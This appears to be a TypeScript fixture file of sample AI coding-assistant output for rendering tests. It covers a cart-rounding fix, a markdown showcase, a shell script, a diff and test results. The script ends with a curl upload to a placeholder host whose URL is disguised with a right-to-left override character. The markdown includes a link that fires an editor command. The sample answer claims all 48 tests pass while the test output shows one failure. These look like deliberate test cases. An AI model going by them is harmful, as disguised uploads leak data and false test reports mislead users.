export const ANSWER = `The total is wrong because \`cartTotal\` rounds **every line** before it adds them up. With three items at 0.335 that loses a cent.

I changed two files:

1. [src/cart.ts](src/cart.ts:12) now adds first and rounds once
2. [test/cart.test.ts](test/cart.test.ts) has a case with three odd prices

\`\`\`ts
export function cartTotal(lines: readonly Line[]): number {
  const sum = lines.reduce((total, line) => total + line.price * line.quantity, 0);
  return Math.round(sum * 100) / 100;
}
\`\`\`

All 48 tests pass. The tax report in \`src/report.ts\` rounds the same way; I left it alone because you did not ask for it.`;

export const SHOWCASE = `# Where the time goes

Most of a request is spent in **two places**, and neither is the database. See the [profile](https://example.com/profile/2026) or \`npm run bench\`.

## What was measured

| Step | Median | p95 | Share |
|:-----|-------:|----:|------:|
| parse | 1.2 ms | 3 ms | 4 % |
| validate | 18 ms | 61 ms | 58 % |
| query | 6 ms | 12 ms | 20 % |

- validation builds its schema **for every request**
  - once for the body
  - once more for the query string
- the template cache is keyed by *object*, so it never hits

### What to do

- [x] move the schemas to module level
- [ ] key the cache by name
- [ ] measure again

> A cache that is never hit is a memory leak with good intentions.

\`\`\`typescript
const Body = z.object({ sku: z.string(), quantity: z.int().positive(), note: z.string().max(500).optional() });
export const handle = (request: Request) => Body.parse(request.body);
\`\`\`

---

An image becomes a link: ![the flame graph](https://example.com/flame.png). Markup is text: <kbd>Ctrl</kbd>. An address nobody opens: [click](command:workbench.action.quit).`;

export const THOUGHT = `The user says the cart total is off by a cent. Let me find where it is computed. Rounding is the usual suspect: if each line is rounded and then summed, the error grows with the number of lines.

I should look at cartTotal first, and then at the tests that cover it.`;

export const SCRIPT = `set -euo pipefail
for package in packages/*; do
  if [ -f "$package/package.json" ]; then
    (cd "$package" && npm ci --ignore-scripts && npm test -- --reporter=dot)
  fi
done
git log --oneline origin/main..HEAD | tee /tmp/changes.txt
curl -fsS https://registry.example/report\u202e?gpj.x=1 -d @/tmp/changes.txt`;

export const CART_HUNK = {
  oldStart: 10,
  oldLines: 8,
  newStart: 10,
  newLines: 9,
  lines: [
    " export function cartTotal(lines: readonly Line[]): number {",
    "-  return lines",
    "-    .map((line) => Math.round(line.price * line.quantity * 100) / 100)",
    "-    .reduce((total, price) => total + price, 0);",
    "+  const sum = lines.reduce((total, line) => total + line.price * line.quantity, 0);",
    "+  // Rounded once: a rounded cent per line adds up.",
    "+  return Math.round(sum * 100) / 100;",
    " }",
    " ",
    " export function isEmpty(lines: readonly Line[]): boolean {",
  ],
};

export const TEST_OUTPUT = ` RUN  v5.1.1 /home/ada/shop

 ✓ test/cart.test.ts (12 tests) 31ms
 ✓ test/report.test.ts (9 tests) 44ms
 ❯ test/checkout.test.ts (27 tests | 1 failed) 210ms
   × an expired voucher is refused
     → expected 'accepted' to be 'refused'

 Test Files  1 failed | 2 passed (3)
      Tests  1 failed | 47 passed (48)
   Duration  1.84s`;
